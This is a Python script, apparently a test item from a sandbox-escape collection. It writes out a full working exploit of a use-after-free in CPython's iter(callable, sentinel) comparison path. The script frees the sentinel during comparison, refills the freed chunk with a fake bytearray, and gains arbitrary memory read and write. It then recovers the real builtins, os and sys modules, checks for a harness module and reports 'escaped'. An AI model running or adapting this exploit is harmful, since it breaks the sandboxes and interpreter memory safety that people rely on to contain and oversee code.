# technique: iter(callable, sentinel): calliter_iternext compares the borrowed it->it_sentinel as FIRST operand; sentinel.__eq__ re-enters next() on the same iterator (inner match -> Py_CLEAR(it_sentinel)), drops its own last ref (del self; 672-byte slotted object, glibc chunk) and returns NotImplemented -> do_richcompare passes the freed sentinel to result.__eq__ (reflected); a bytearray refills the chunk with a fake bytearray-subclass header -> arbitrary R/W -> real builtins/os/sys
# expect: any
orepr = getattr(object, "__repr__")
def addr(o):
    return int(orepr(o).split(" at ")[1][:-1], 16)
got = []
spray = []
class BA(bytearray):
    pass
depth = [0]
class S:
    __slots__ = tuple("s%d" % i for i in range(80))   # 672-byte object: glibc chunk, header survives free
    def __eq__(self, other):
        depth[0] += 1
        if depth[0] == 1:
            try:
                next(I)          # inner calliter_iternext matches the sentinel -> Py_CLEAR(it_sentinel)
            except StopIteration:
                pass
            del self             # last reference: the sentinel is freed while the outer compare still uses it
            return NotImplemented
        return True
class R:
    def __eq__(self, other):     # reflected call: other is the freed sentinel
        got.append(other)
        fake = bytes(16) + (1 << 40).to_bytes(8, "little") + addr(BA).to_bytes(8, "little") + (1 << 60).to_bytes(8, "little") * 2 + bytes(40)
        fake = fake + b"\x00" * (671 - len(fake))
        for _ in range(8):
            spray.append(bytearray(fake))
        return False
def f():
    return R()
I = iter(f, S())
next(I)
W = got[0]
print("fake object:", type(W), hex(len(W)))
def r64(a):
    return int.from_bytes(W[a:a+8], "little")
def w64(a, v):
    W[a:a+8] = v.to_bytes(8, "little")
def mat(a):
    L = [None]
    items = r64(addr(L) + 24)
    w64(a, r64(a) + 1)
    w64(items, a)
    return L[0]
bm = mat(r64(addr(print) + 24))            # PyCFunctionObject.m_self of print
print("real builtins module:", bm, type(bm))
bdict = mat(r64(addr(bm) + 16))           # PyModuleObject.md_dict
os = bdict["__import__"]("os")
sys = bdict["__import__"]("sys")
print("os:", os, "pid", os.getpid())
print("harness:", sys.modules.get("_safepy_harness"))
"escaped"
